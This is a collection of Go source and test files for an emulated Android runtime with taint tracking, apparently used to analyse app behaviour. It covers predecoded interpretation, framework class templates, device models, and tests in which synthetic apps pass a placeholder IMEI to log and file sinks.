	listener.Virtual("onClick", "V", []string{"Landroid/view/View;"}, func(a *dexgen.Asm) {
		a.ConstString(0, "clicked")
		a.LogLeak("ui", 0, 1)
		a.ReturnVoid()
	})
	main := p.Class("Lui/Main;", "Landroid/app/Activity;")
	main.Ctor("Landroid/app/Activity;", nil)
	main.Virtual("onCreate", "V", []string{"Landroid/os/Bundle;"}, func(a *dexgen.Asm) {
		a.Const(0, 42)
		a.InvokeVirtual("Landroid/app/Activity;", "findViewById", "(I)Landroid/view/View;", a.This(), 0)
		a.MoveResultObject(1)
		a.NewInstance(2, "Lui/L;")
		a.InvokeDirect("Lui/L;", "<init>", "()V", 2)
		a.InvokeVirtual("Landroid/view/View;", "setOnClickListener",
			"(Landroid/view/View$OnClickListener;)V", 1, 2)
		a.ReturnVoid()
	})
	pkg, err := p.BuildAPK("com.ui", "1.0", "Lui/Main;")
	if err != nil {
		t.Fatal(err)
	}
	rt := art.NewRuntime(art.DefaultPhone())
	if err := rt.LoadAPK(pkg); err != nil {
		t.Fatal(err)
	}
	if _, err := rt.LaunchActivity(); err != nil {
		t.Fatal(err)
	}
	clickables := rt.Clickables()
	if len(clickables) != 1 || clickables[0] != 42 {
		t.Fatalf("clickables = %v", clickables)
	}
	if err := rt.PerformClick(42); err != nil {
		t.Fatal(err)
	}
	if sinks := rt.Sinks(); len(sinks) != 1 || sinks[0].Args[1] != "clicked" {
		t.Fatalf("sinks = %+v", sinks)
	}
	if err := rt.PerformClick(99); err == nil {
		t.Error("PerformClick(99): want error")
	}
}

func TestStepBudget(t *testing.T) {
	p := dexgen.New()
	p.Class("Lloop/L;", "").Static("forever", "V", nil, func(a *dexgen.Asm) {
		a.Label("spin")
		a.Goto("spin")
	})
	f, err := p.Finish()
	if err != nil {
		t.Fatal(err)
	}
	rt := art.NewRuntime(art.DefaultPhone())
	rt.MaxSteps = 10_000
	if _, err := rt.LoadDex(f); err != nil {
		t.Fatal(err)
	}
	if _, err := rt.Call("Lloop/L;", "forever", "()V", nil, nil); !errors.Is(err, art.ErrStepBudget) {
		t.Errorf("got %v, want ErrStepBudget", err)
	}
}

func TestStaticInitAndClinit(t *testing.T) {
	p := dexgen.New()
	cls := p.Class("Lstat/S;", "")
	cls.StaticString("GREETING", "hello")
	cls.StaticInt("BASE", 30)
	cls.StaticField("computed", "I")
	cls.Method(dexgen.MethodSpec{Name: "<clinit>", Ret: "V", Static: true}, func(a *dexgen.Asm) {
		a.SGetInt(0, "Lstat/S;", "BASE")
		a.BinopLit8(bytecode.OpMulIntLit8, 0, 0, 3)
		a.SPutInt(0, "Lstat/S;", "computed")
		a.ReturnVoid()
	})
	cls.Static("get", "I", nil, func(a *dexgen.Asm) {
		a.SGetInt(0, "Lstat/S;", "computed")
		a.Return(0)
	})
	f, err := p.Finish()
	if err != nil {
		t.Fatal(err)
	}
	rt := art.NewRuntime(art.DefaultPhone())
	if _, err := rt.LoadDex(f); err != nil {
		t.Fatal(err)
	}
	var inits []string
	var fieldInits []string
	rt.AddHooks(&art.Hooks{
		ClassInitialized: func(c *art.Class) { inits = append(inits, c.Descriptor) },
		StaticFieldInit: func(c *art.Class, fl *art.Field, v art.Value) {
			fieldInits = append(fieldInits, fl.Name)
		},
	})
	res, err := rt.Call("Lstat/S;", "get", "()I", nil, nil)
	if err != nil || res.Int != 90 {
		t.Fatalf("get() = %v, %v; want 90", res, err)
	}
	if len(inits) != 1 || inits[0] != "Lstat/S;" {
		t.Errorf("inits = %v", inits)
	}
	if len(fieldInits) != 3 {
		t.Errorf("fieldInits = %v", fieldInits)
	}
	c := mustClass(t, rt, "Lstat/S;")
	v, err := c.StaticValue("GREETING")
	if err != nil || v.Ref == nil || v.Ref.Str != "hello" {
		t.Errorf("GREETING = %v, %v", v, err)
	}
}

func TestStringAndTaintPropagation(t *testing.T) {
	p := dexgen.New()
	cls := p.Class("Lstr/S;", "Landroid/app/Activity;")
	cls.Ctor("Landroid/app/Activity;", nil)
	cls.Virtual("build", "Ljava/lang/String;", nil, func(a *dexgen.Asm) {
		a.GetIMEI(0, 1)
		a.NewInstance(1, "Ljava/lang/StringBuilder;")
		a.InvokeDirect("Ljava/lang/StringBuilder;", "<init>", "()V", 1)
		a.ConstString(2, "id=")
		a.InvokeVirtual("Ljava/lang/StringBuilder;", "append",
			"(Ljava/lang/String;)Ljava/lang/StringBuilder;", 1, 2)
		a.MoveResultObject(1)
		a.InvokeVirtual("Ljava/lang/StringBuilder;", "append",
			"(Ljava/lang/String;)Ljava/lang/StringBuilder;", 1, 0)
		a.MoveResultObject(1)
		a.InvokeVirtual("Ljava/lang/StringBuilder;", "toString", "()Ljava/lang/String;", 1)
		a.MoveResultObject(0)
		a.ReturnObj(0)
	})
	f, err := p.Finish()
	if err != nil {
		t.Fatal(err)
	}
	rt := art.NewRuntime(art.DefaultPhone())
	if _, err := rt.LoadDex(f); err != nil {
		t.Fatal(err)
	}
	obj := rt.NewInstance(mustClass(t, rt, "Lstr/S;"))
	res, err := rt.Call("Lstr/S;", "build", "()Ljava/lang/String;", obj, nil)
	if err != nil {
		t.Fatal(err)
	}
	if want := "id=" + art.DefaultPhone().IMEI; res.Ref.Str != want {
		t.Errorf("build() = %q, want %q", res.Ref.Str, want)
	}
	if !res.EffectiveTaint().Has(apimodel.TaintIMEI) {
		t.Error("taint lost through StringBuilder")
	}
}

func TestArraysAndBounds(t *testing.T) {
	p := dexgen.New()
	cls := p.Class("Larr/A;", "")
	cls.Static("rev", "I", []string{"I"}, func(a *dexgen.Asm) {
		a.Const(0, 3)
		a.NewArray(1, 0, "[I")
		a.Const(2, 0)
		a.Const(3, 7)
		a.APut(bytecode.OpAPut, 3, 1, 2)
		a.AGet(bytecode.OpAGet, 4, 1, a.P(0)) // may throw OOB
		a.Return(4)
	})
	f, err := p.Finish()
	if err != nil {
		t.Fatal(err)
	}
	rt := art.NewRuntime(art.DefaultPhone())
	if _, err := rt.LoadDex(f); err != nil {
		t.Fatal(err)
	}
	res, err := rt.Call("Larr/A;", "rev", "(I)I", nil, []art.Value{art.IntVal(0)})
	if err != nil || res.Int != 7 {
		t.Fatalf("rev(0) = %v, %v", res, err)
	}
	_, err = rt.Call("Larr/A;", "rev", "(I)I", nil, []art.Value{art.IntVal(9)})
	var thrown *art.ThrownError
	if !errors.As(err, &thrown) ||
		thrown.Obj.Class.Descriptor != "Ljava/lang/ArrayIndexOutOfBoundsException;" {
		t.Errorf("rev(9): got %v, want ArrayIndexOutOfBoundsException", err)
	}
}

func TestCheckCastFailure(t *testing.T) {
	p := dexgen.New()
	p.Class("Lcast/C;", "").Static("bad", "V", nil, func(a *dexgen.Asm) {
		a.ConstString(0, "hello")
		a.CheckCast(0, "Landroid/view/View;")
		a.ReturnVoid()
	})
	f, err := p.Finish()
	if err != nil {
		t.Fatal(err)
	}
	rt := art.NewRuntime(art.DefaultPhone())
	if _, err := rt.LoadDex(f); err != nil {
		t.Fatal(err)
	}
	_, err = rt.Call("Lcast/C;", "bad", "()V", nil, nil)
	var thrown *art.ThrownError
	if !errors.As(err, &thrown) ||
		thrown.Obj.Class.Descriptor != "Ljava/lang/ClassCastException;" {
		t.Errorf("got %v, want ClassCastException", err)
	}
}

func TestEmulatorAndTabletEnvironments(t *testing.T) {
	build := func(rt *art.Runtime) string {
		c := mustClass(t, rt, "Landroid/os/Build;")
		v, err := c.StaticValue("HARDWARE")
		if err != nil {
			t.Fatal(err)
		}
		return v.Ref.Str
	}
	if hw := build(art.NewRuntime(art.DefaultPhone())); hw != "bullhead" {
		t.Errorf("phone hardware = %q", hw)
	}
	if hw := build(art.NewRuntime(art.EmulatorDevice())); hw != "goldfish" {
		t.Errorf("emulator hardware = %q", hw)
	}
	if d := art.TabletDevice(); !d.Tablet {
		t.Error("tablet device not tablet")
	}
}

func TestInstructionHookSeesLiveBytecode(t *testing.T) {
	rt := buildLeakApp(t)
	count := 0
	rt.AddHooks(&art.Hooks{
		Instruction: func(m *art.Method, pc int, insns []uint16, in *bytecode.Inst) {
			count++
			if pc >= len(insns) {
				t.Errorf("pc %d out of bounds %d", pc, len(insns))
			}
		},
	})
	if _, err := rt.LaunchActivity(); err != nil {
		t.Fatal(err)
	}
	if count < 5 {
		t.Errorf("instruction hook fired %d times", count)
	}
}

func TestIntentExtras(t *testing.T) {
	p := dexgen.New()
	cls := p.Class("Lin/I;", "Landroid/app/Activity;")
	cls.Ctor("Landroid/app/Activity;", nil)
	cls.Virtual("read", "Ljava/lang/String;", nil, func(a *dexgen.Asm) {
		a.InvokeVirtual("Landroid/app/Activity;", "getIntent", "()Landroid/content/Intent;", a.This())
		a.MoveResultObject(0)
		a.ConstString(1, "cmd")
		a.InvokeVirtual("Landroid/content/Intent;", "getStringExtra",
			"(Ljava/lang/String;)Ljava/lang/String;", 0, 1)
		a.MoveResultObject(0)
		a.ReturnObj(0)
	})
	f, err := p.Finish()
	if err != nil {
		t.Fatal(err)
	}
	rt := art.NewRuntime(art.DefaultPhone())
	if _, err := rt.LoadDex(f); err != nil {
		t.Fatal(err)
	}
	rt.SetIntentExtras(map[string]string{"cmd": "go"})
	obj := rt.NewInstance(mustClass(t, rt, "Lin/I;"))
	res, err := rt.Call("Lin/I;", "read", "()Ljava/lang/String;", obj, nil)
	if err != nil || res.Ref == nil || res.Ref.Str != "go" {
		t.Errorf("read() = %v, %v", res, err)
	}
}

func TestExternalFileRoundTripSeversTaint(t *testing.T) {
	p := dexgen.New()
	cls := p.Class("Lfile/F;", "Landroid/app/Activity;")
	cls.Ctor("Landroid/app/Activity;", nil)
	cls.Virtual("roundTrip", "V", nil, func(a *dexgen.Asm) {
		a.GetIMEI(0, 1)
		a.ConstString(1, "/sdcard/x.txt")
		a.InvokeStatic("Ljava/io/FileUtil;", "writeExternal",
			"(Ljava/lang/String;Ljava/lang/String;)V", 1, 0)
		a.InvokeStatic("Ljava/io/FileUtil;", "readExternal",
			"(Ljava/lang/String;)Ljava/lang/String;", 1)
		a.MoveResultObject(2)
		a.LogLeak("file", 2, 3)
		a.ReturnVoid()
	})
	f, err := p.Finish()
	if err != nil {
		t.Fatal(err)
	}
	rt := art.NewRuntime(art.DefaultPhone())
	if _, err := rt.LoadDex(f); err != nil {
		t.Fatal(err)
	}
	obj := rt.NewInstance(mustClass(t, rt, "Lfile/F;"))
	if _, err := rt.Call("Lfile/F;", "roundTrip", "()V", obj, nil); err != nil {
		t.Fatal(err)
	}
	sinks := rt.Sinks()
	// Two events: the tainted file write and the untainted log of the
	// read-back copy.
	if len(sinks) != 2 {
		t.Fatalf("sinks = %+v", sinks)
	}
	if !sinks[0].Leaky() || sinks[0].Sink != apimodel.SinkFile {
		t.Errorf("file write event = %+v", sinks[0])
	}
	if sinks[1].Leaky() {
		t.Errorf("log of file-read content should be untainted: %+v", sinks[1])
	}
	if content, ok := rt.ExternalFileContents("/sdcard/x.txt"); !ok ||
		content != art.DefaultPhone().IMEI {
		t.Errorf("external file = %q, %v", content, ok)
	}
}
