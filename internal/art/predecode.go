package art

import (
	"os"
	"strings"

	"dexlego/internal/bytecode"
	"dexlego/internal/dex"
)

// defaultProgramCache is the process-wide predecoded-program cache. Every
// runtime shares it unless SetProgramCache installs a private one, so the
// predecode cost of a method body is paid once per distinct content across
// all runtimes of the process (repeated reveals, worker shards, benchmarks).
var defaultProgramCache = bytecode.NewProgramCache()

// predecodeEnvDefault reads the DEXLEGO_PREDECODE toggle: predecode is on
// unless the variable is explicitly "off", "false", "no" or "0". The off
// mode keeps the original decode-per-step path alive as the differential
// reference interpreter.
func predecodeEnvDefault() bool {
	switch strings.ToLower(os.Getenv("DEXLEGO_PREDECODE")) {
	case "off", "false", "no", "0":
		return false
	}
	return true
}

// SetPredecode switches the predecoded interpreter path on or off for this
// runtime, overriding the DEXLEGO_PREDECODE environment default.
func (rt *Runtime) SetPredecode(on bool) { rt.predecode = on }

// PredecodeEnabled reports whether this runtime interprets through
// predecoded programs.
func (rt *Runtime) PredecodeEnabled() bool { return rt.predecode }

// SetProgramCache installs the predecoded-program cache this runtime
// resolves through (nil predecodes privately per method). The force-execution
// engine hands all worker-shard runtimes of one campaign the same cache.
func (rt *Runtime) SetProgramCache(c *bytecode.ProgramCache) { rt.progCache = c }

// icSite is the inline cache of one call- or field-site: the resolved
// constant-pool reference plus the resolution the runtime would otherwise
// redo on every visit. Sites live per predecoded instruction and die with
// the predecoded stream, so they can never survive a code modification.
type icSite struct {
	valid bool
	index uint32 // the constant-pool index the site resolved

	// Invoke resolution.
	mref    dex.MethodRef
	cls     *Class  // resolved class (static/direct invokes, sget/sput)
	target  *Method // resolved target (static/direct/super invokes)
	recvCls *Class  // monomorphic receiver class (virtual/interface)
	recvTgt *Method // target for recvCls

	// Field resolution.
	fref dex.FieldRef
}

// icAt returns the inline-cache slot for predecoded instruction index ci of
// the frame's method, allocating the site array on first use; nil when the
// instruction was not predecoded (fallback decode path, predecode off).
func (f *frame) icAt(ci int) *icSite {
	if ci < 0 || f.prog == nil {
		return nil
	}
	ic := f.prog.ICOf(ci)
	if ic < 0 {
		return nil
	}
	m := f.method
	if m.sites == nil {
		m.sites = make([]icSite, f.prog.NumSites())
	}
	if int(ic) >= len(m.sites) {
		return nil
	}
	return &m.sites[ic]
}

// bindProgram points the frame at the method's predecoded program, building
// or rebuilding it when the live unit array no longer matches what the
// current program was lowered from. This is both the entry bind and the
// paper-faithful invalidation point: a stale program here means something
// wrote into live code (self-modification, packer slice swap), so the old
// stream is dropped and PredecodeInvalidate fires before the rebuild.
func (rt *Runtime) bindProgram(f *frame) {
	m := f.method
	if !rt.predecode || len(m.Insns) == 0 {
		f.prog = nil
		return
	}
	if m.prog == nil || m.progGen != m.codeGen ||
		m.progLen != len(m.Insns) || m.progPtr != &m.Insns[0] {
		if m.prog != nil {
			// Silent code swap: the array changed without TamperMethod
			// bumping the generation (packer-style slice replacement).
			m.prog = nil
			m.sites = nil
			for _, h := range rt.hooks {
				if h.PredecodeInvalidate != nil {
					h.PredecodeInvalidate(m, f.pc)
				}
				if h.CodeWritten != nil {
					h.CodeWritten(m, f.pc)
				}
			}
		}
		var hit bool
		if rt.progCache != nil {
			m.prog, hit = rt.progCache.Get(m.Insns)
		} else {
			m.prog = bytecode.Predecode(m.Insns)
		}
		m.progGen = m.codeGen
		m.progLen = len(m.Insns)
		m.progPtr = &m.Insns[0]
		m.sites = nil
		if hit {
			for _, h := range rt.hooks {
				if h.PredecodeHit != nil {
					h.PredecodeHit(m)
				}
			}
		}
	}
	f.prog = m.prog
	f.bindGen = m.codeGen
	f.bindLen = len(m.Insns)
	f.bindPtr = &m.Insns[0]
}

// bindStale reports whether the live code of the frame's method changed
// since bindProgram: a replaced slice, a grown slice, or a generation bump
// from an in-place tamper. Checked before every step so a mid-run
// self-modification is observed before the next instruction executes.
func (f *frame) bindStale() bool {
	m := f.method
	return m.codeGen != f.bindGen || len(m.Insns) != f.bindLen ||
		(f.bindLen > 0 && &m.Insns[0] != f.bindPtr)
}

// invalidateCode drops the method's predecoded stream and inline caches
// after a write into its live unit array and bumps the code generation so
// every active frame rebinds before its next step. pc is the dex_pc of the
// tampering call site (-1 when tampered from outside bytecode).
func (m *Method) invalidateCode(rt *Runtime, pc int) {
	m.codeGen++
	// CodeWritten fires before the predecode-state check: a tamper with
	// predecode off (or before the first bind) is still a code write, and
	// the incremental reveal cache must learn about it in every mode.
	for _, h := range rt.hooks {
		if h.CodeWritten != nil {
			h.CodeWritten(m, pc)
		}
	}
	if m.prog == nil {
		return
	}
	m.prog = nil
	m.sites = nil
	for _, h := range rt.hooks {
		if h.PredecodeInvalidate != nil {
			h.PredecodeInvalidate(m, pc)
		}
	}
}
