package art

import (
	"strings"
	"testing"

	"dexlego/internal/bytecode"
	"dexlego/internal/dex"
)

// TestHandlerTableComplete is the completeness property of the dispatch
// table: every opcode the decoder can emit must have a handler, or the
// predecoded path would fail programs the reference switch used to run.
// The bytecode package's opcode table is the source of truth for what
// Decode can produce.
func TestHandlerTableComplete(t *testing.T) {
	for _, op := range bytecode.Opcodes() {
		if handlers[op] == nil {
			t.Errorf("opcode %s (0x%02x) is decodable but has no handler", op, uint8(op))
		}
	}
}

// TestHandlerTableRejectsUnknown checks the inverse property: opcode bytes
// the decoder can never produce must not have handlers, so the table cannot
// silently execute junk that the reference interpreter would reject.
func TestHandlerTableRejectsUnknown(t *testing.T) {
	known := make(map[bytecode.Opcode]bool)
	for _, op := range bytecode.Opcodes() {
		known[op] = true
	}
	for b := 0; b < 256; b++ {
		op := bytecode.Opcode(b)
		if !known[op] && handlers[op] != nil {
			t.Errorf("opcode byte 0x%02x has a handler but is not decodable", b)
		}
	}
}

// buildBadMethod hand-assembles Lbad/B;->f()V with the given raw units and
// register count, bypassing the assembler's validation.
func buildBadMethod(t *testing.T, insns []uint16, regs uint16) *dex.File {
	t.Helper()
	b := dex.NewBuilder()
	cb := b.Class("Lbad/B;", dex.AccPublic, "Ljava/lang/Object;")
	cb.DirectMethod("f", "V", nil, dex.AccPublic|dex.AccStatic, &dex.Code{
		RegistersSize: regs,
		Insns:         insns,
	})
	f, err := b.Finish()
	if err != nil {
		t.Fatal(err)
	}
	return f
}

// runBadMethod loads the file into a fresh runtime with the given predecode
// mode and returns the interpreter error.
func runBadMethod(t *testing.T, f *dex.File, predecode bool) error {
	t.Helper()
	rt := NewRuntime(DefaultPhone())
	rt.SetPredecode(predecode)
	if _, err := rt.LoadDex(f); err != nil {
		t.Fatal(err)
	}
	_, err := rt.Call("Lbad/B;", "f", "()V", nil, nil)
	if err == nil {
		t.Fatal("malformed code must error")
	}
	return err
}

// TestErrorParityAcrossInterpreters pins the failure contract of the
// predecoded path to the reference interpreter: undecodable opcodes and
// out-of-range registers must fail with the exact same error text in both
// modes, so tooling that matches on the messages cannot tell them apart.
func TestErrorParityAcrossInterpreters(t *testing.T) {
	cases := []struct {
		name    string
		insns   []uint16
		regs    uint16
		wantSub string
	}{
		// 0xff is not a DEX opcode: the decode error must surface verbatim.
		{"unknown opcode", []uint16{0x00ff}, 2, "unknown opcode"},
		// const/4 v1 in a 1-register frame: the register guard hoisted out
		// of the step loop must produce the historical message.
		{"register out of range", []uint16{0x0112, 0x000e}, 1,
			"art: Lbad/B;->f()V: register v1 out of range at pc 0"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			f := buildBadMethod(t, tc.insns, tc.regs)
			on := runBadMethod(t, f, true)
			off := runBadMethod(t, f, false)
			if on.Error() != off.Error() {
				t.Errorf("error text diverges:\n predecode on:  %v\n predecode off: %v", on, off)
			}
			if !strings.Contains(on.Error(), tc.wantSub) {
				t.Errorf("error %q does not contain %q", on, tc.wantSub)
			}
		})
	}
}
