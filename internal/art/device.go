package art

// Device models the execution environment's identity: whether the runtime
// "runs" on a real phone, a tablet, or an emulator, and the sensitive data
// the source APIs hand out. Emulator-detecting malware reads the Build
// properties; tablet-only leaks consult the screen configuration.
type Device struct {
	Emulator bool
	Tablet   bool

	Model       string
	Brand       string
	Hardware    string
	Fingerprint string

	IMEI     string
	SIM      string
	SSID     string
	Location string
}

// DefaultPhone returns the paper's experiment device: an LG Nexus 5X phone.
func DefaultPhone() Device {
	return Device{
		Model:       "Nexus 5X",
		Brand:       "google",
		Hardware:    "bullhead",
		Fingerprint: "google/bullhead/bullhead:6.0/MDB08L/2343525:user/release-keys",
		IMEI:        "356938035643809",
		SIM:         "8901260862291834779",
		SSID:        "\"CompassLab-5G\"",
		Location:    "42.3584,-83.0665",
	}
}

// EmulatorDevice returns a stock emulator environment, as used by
// TaintDroid in the paper's Table IV comparison.
func EmulatorDevice() Device {
	d := DefaultPhone()
	d.Emulator = true
	d.Model = "sdk_gphone"
	d.Brand = "generic"
	d.Hardware = "goldfish"
	d.Fingerprint = "generic/sdk_gphone/generic:6.0/MASTER/0:eng/test-keys"
	d.IMEI = "000000000000000"
	return d
}

// TabletDevice returns a tablet environment (large screen layout).
func TabletDevice() Device {
	d := DefaultPhone()
	d.Tablet = true
	d.Model = "Pixel C"
	d.Hardware = "dragon"
	return d
}

// screenLayout mirrors Configuration.screenLayout size bits:
// 2 = NORMAL (phone), 4 = XLARGE (tablet).
func (d Device) screenLayout() int64 {
	if d.Tablet {
		return 4
	}
	return 2
}
