package art

import "sync"

// The framework model is identical for every runtime with the same Device:
// installFramework builds the same class graph, the same native bindings and
// the same Build constants every time. Constructing it declaratively is the
// single most expensive part of NewRuntime, and the reveal pipeline creates
// runtimes constantly (one per collection pass, one per forced run). The
// template cache builds the graph once per distinct Device and stamps new
// runtimes out by cloning the Class shells while sharing the immutable
// members.
//
// What is shared and why it is safe:
//   - Method objects. Framework methods are native or abstract — they have
//     no Insns, so the interpreter never binds predecode state to them,
//     TamperMethod rejects them, and their Key() cache is pinned at template
//     build. Nothing writes to them after construction.
//   - Field metadata. Field.Init is only written by LoadDex for app classes.
//   - Native funcs only reach runtime state through the call-time *Env,
//     never by capturing the defining runtime (enforced by construction in
//     framework.go).
//
// What is cloned per runtime: the Class structs themselves (state and the
// Super/Interfaces links live there) and every Statics map with its string
// objects, because sput can write framework statics and two runtimes must
// never observe each other's writes. The hierarchy is relinked through
// indices precomputed at template build, so a clone is one slab allocation
// plus the class-map fills — no per-clone identity map.
var fwTemplates sync.Map // Device -> *fwTemplate

// fwStatic is one template static: its slot name, the value, and the index
// of the value's class in the template order (-1 for non-ref values).
type fwStatic struct {
	name   string
	v      Value
	clsIdx int32
}

// fwTemplate is the immutable framework snapshot for one Device. Classes
// are held in a fixed order; superIdx, ifaceIdx and statics describe the
// links of the class at the same position, as indices into that order.
type fwTemplate struct {
	classes  []*Class
	superIdx []int32
	ifaceIdx [][]int32
	statics  [][]fwStatic
	lookup   map[string]int32 // descriptor -> index, shared read-only by clones
}

// fwTemplateFor returns the framework template for the device, building it
// on first use on a throwaway runtime via the declarative path.
func fwTemplateFor(device Device) *fwTemplate {
	if t, ok := fwTemplates.Load(device); ok {
		return t.(*fwTemplate)
	}
	scratch := &Runtime{
		Device:  device,
		classes: make(map[string]*Class, 128),
	}
	scratch.installFramework()
	t := &fwTemplate{classes: make([]*Class, 0, len(scratch.classes))}
	pos := make(map[*Class]int32, len(scratch.classes))
	for _, c := range scratch.classes {
		// Pin the lazily-cached method keys now: shared methods must never
		// be written to once the template is published.
		for _, m := range c.Methods {
			m.Key()
		}
		pos[c] = int32(len(t.classes))
		t.classes = append(t.classes, c)
	}
	t.superIdx = make([]int32, len(t.classes))
	t.ifaceIdx = make([][]int32, len(t.classes))
	t.statics = make([][]fwStatic, len(t.classes))
	t.lookup = make(map[string]int32, len(t.classes))
	for i, c := range t.classes {
		t.lookup[c.Descriptor] = int32(i)
	}
	for i, c := range t.classes {
		t.superIdx[i] = -1
		if c.Super != nil {
			t.superIdx[i] = pos[c.Super]
		}
		for _, ifc := range c.Interfaces {
			t.ifaceIdx[i] = append(t.ifaceIdx[i], pos[ifc])
		}
		for name, v := range c.Statics {
			clsIdx := int32(-1)
			if v.Kind == KindRef && v.Ref != nil {
				if p, ok := pos[v.Ref.Class]; ok {
					clsIdx = p
				}
			}
			t.statics[i] = append(t.statics[i], fwStatic{name: name, v: v, clsIdx: clsIdx})
		}
	}
	actual, _ := fwTemplates.LoadOrStore(device, t)
	return actual.(*fwTemplate)
}

// cloneFramework installs the framework model into rt from the device's
// template. Nothing is cloned up front: lookups go through the template's
// shared descriptor index, and fwClass stamps out a Class shell the first
// time the runtime actually touches it. An app pass resolves a few dozen of
// the 100+ framework classes, so the lazy clone keeps NewRuntime to one
// pointer-slab allocation instead of copying the whole class graph.
func (rt *Runtime) cloneFramework() {
	t := fwTemplateFor(rt.Device)
	rt.fwTmpl = t
	rt.fwSlab = make([]*Class, len(t.classes))
	rt.fwLookup = t.lookup
	// The string and class-mirror singletons back every NewString /
	// classObject call; resolve them once, eagerly.
	if i, ok := t.lookup["Ljava/lang/String;"]; ok {
		rt.stringClass = rt.fwClass(i)
	}
	if i, ok := t.lookup["Ljava/lang/Class;"]; ok {
		rt.classClass = rt.fwClass(i)
	}
}

// fwClass returns this runtime's clone of template class i, materializing
// it (and, through the links, its super chain, interfaces and static value
// classes) on first use. The shell is published into the slab before its
// links are filled so self-referential statics terminate.
func (rt *Runtime) fwClass(i int32) *Class {
	if c := rt.fwSlab[i]; c != nil {
		return c
	}
	t := rt.fwTmpl
	oc := t.classes[i]
	nc := &Class{
		Descriptor:   oc.Descriptor,
		AccessFlags:  oc.AccessFlags,
		Methods:      oc.Methods,
		StaticMeta:   oc.StaticMeta,
		InstanceMeta: oc.InstanceMeta,
		state:        oc.state,
		rt:           rt,
	}
	rt.fwSlab[i] = nc
	if si := t.superIdx[i]; si >= 0 {
		nc.Super = rt.fwClass(si)
	}
	if idx := t.ifaceIdx[i]; len(idx) > 0 {
		nc.Interfaces = make([]*Class, len(idx))
		for j, p := range idx {
			nc.Interfaces[j] = rt.fwClass(p)
		}
	}
	if sts := t.statics[i]; len(sts) > 0 {
		nc.Statics = make(map[string]Value, len(sts))
		for _, s := range sts {
			v := s.v
			if v.Kind == KindRef && v.Ref != nil {
				o := *v.Ref
				if s.clsIdx >= 0 {
					o.Class = rt.fwClass(s.clsIdx)
				}
				v.Ref = &o
			}
			nc.Statics[s.name] = v
		}
	}
	return nc
}
