package art

import (
	"fmt"

	"dexlego/internal/bytecode"
)

// execState carries the per-top-level-call interpreter state: the frame
// stack (for caller introspection by natives), the step budget, and depth
// accounting.
type execState struct {
	rt     *Runtime
	steps  int
	budget int
	frames []*frame
}

type frame struct {
	method  *Method
	regs    []Value
	pc      int
	result  Value
	hasRes  bool
	pending *Object // caught exception awaiting move-exception
}

func (rt *Runtime) newExecState() *execState {
	return &execState{rt: rt, budget: rt.MaxSteps}
}

// callerFrame returns the innermost bytecode frame, which for a native
// method is its caller.
func (st *execState) callerFrame() *frame {
	if len(st.frames) == 0 {
		return nil
	}
	return st.frames[len(st.frames)-1]
}

// invoke dispatches a method call: native bridge or bytecode frame.
func (rt *Runtime) invoke(st *execState, m *Method, recv *Object, args []Value) (Value, error) {
	for _, fn := range rt.methodEnter {
		fn(m)
	}
	defer func() {
		for _, fn := range rt.methodExit {
			fn(m)
		}
	}()

	if native := rt.nativeFor(m); native != nil {
		env := &Env{rt: rt, st: st, current: m}
		return native(env, recv, args)
	}
	if m.Insns == nil {
		// Abstract or unresolved-native method.
		return Value{}, rt.Throw("Ljava/lang/RuntimeException;",
			fmt.Sprintf("no implementation for %s", m.Key()))
	}
	if len(st.frames) >= defaultMaxDepth {
		return Value{}, ErrStackOverfl
	}

	f := &frame{method: m, regs: make([]Value, m.RegistersSize)}
	// Parameters occupy the highest registers (ins).
	base := m.RegistersSize - m.InsSize
	if base < 0 {
		return Value{}, fmt.Errorf("art: %s: ins %d exceed registers %d",
			m.Key(), m.InsSize, m.RegistersSize)
	}
	idx := base
	if !m.IsStatic() {
		if idx < len(f.regs) {
			f.regs[idx] = RefVal(recv)
		}
		idx++
	}
	for _, a := range args {
		if idx >= len(f.regs) {
			break
		}
		f.regs[idx] = a
		idx++
	}

	st.frames = append(st.frames, f)
	for _, h := range rt.hooks {
		if h.MethodEntered != nil {
			h.MethodEntered(m)
		}
	}
	v, err := rt.run(st, f)
	st.frames = st.frames[:len(st.frames)-1]
	for _, h := range rt.hooks {
		if h.MethodExited != nil {
			h.MethodExited(m)
		}
	}
	return v, err
}

// nativeFor resolves the native implementation of m, if any: framework
// methods carry it directly; application methods declared native resolve
// through the registry at call time (JNI symbol lookup).
func (rt *Runtime) nativeFor(m *Method) NativeFunc {
	if m.Native != nil {
		return m.Native
	}
	if m.AccessFlags&0x0100 != 0 { // AccNative
		return rt.natives[m.Key()]
	}
	return nil
}

// throwInApp wraps err so bytecode-level handlers can catch it: ThrownError
// values pass through, infrastructure errors (budget, stack) do not.
func (rt *Runtime) handleThrow(f *frame, ex *Object) bool {
	for _, t := range f.method.Tries {
		if !t.Covers(f.pc) {
			continue
		}
		for _, h := range t.Handlers {
			desc := f.method.Class.File.TypeName(h.Type)
			cls, err := rt.FindClass(desc)
			if err != nil {
				continue
			}
			if ex.Class.IsSubclassOf(cls) {
				f.pending = ex
				f.pc = int(h.Addr)
				return true
			}
		}
		if t.CatchAll >= 0 {
			f.pending = ex
			f.pc = int(t.CatchAll)
			return true
		}
	}
	return false
}

// run executes a bytecode frame to completion.
func (rt *Runtime) run(st *execState, f *frame) (Value, error) {
	m := f.method
	for {
		st.steps++
		if st.steps > st.budget {
			return Value{}, ErrStepBudget
		}
		if f.pc < 0 || f.pc >= len(m.Insns) {
			return Value{}, fmt.Errorf("art: %s: pc %d out of bounds", m.Key(), f.pc)
		}
		for _, h := range rt.hooks {
			if h.Instruction != nil {
				h.Instruction(m, f.pc, m.Insns)
			}
		}
		in, width, err := bytecode.Decode(m.Insns, f.pc)
		if err != nil {
			return Value{}, fmt.Errorf("art: %s: %w", m.Key(), err)
		}

		// Forced exception edges: a hook may demand that this instruction
		// throws instead of executing.
		var injected error
		for _, h := range rt.hooks {
			if h.InjectException == nil {
				continue
			}
			if desc := h.InjectException(m, f.pc); desc != "" {
				injected = rt.Throw(desc, "forced exception edge")
				break
			}
		}
		var v Value
		var done bool
		if injected != nil {
			err = injected
		} else {
			v, done, err = rt.step(st, f, in, width)
		}
		if err != nil {
			var thrown *ThrownError
			if asThrown(err, &thrown) {
				if rt.handleThrow(f, thrown.Obj) {
					continue
				}
				cleared := false
				for _, h := range rt.hooks {
					if h.Unhandled != nil && h.Unhandled(m, f.pc, thrown.Obj) {
						cleared = true
					}
				}
				if cleared {
					// Tolerate: resume after the faulting instruction with a
					// zeroed invoke result (force-execution crash avoidance).
					// Falling off the end becomes an implicit return.
					f.hasRes = false
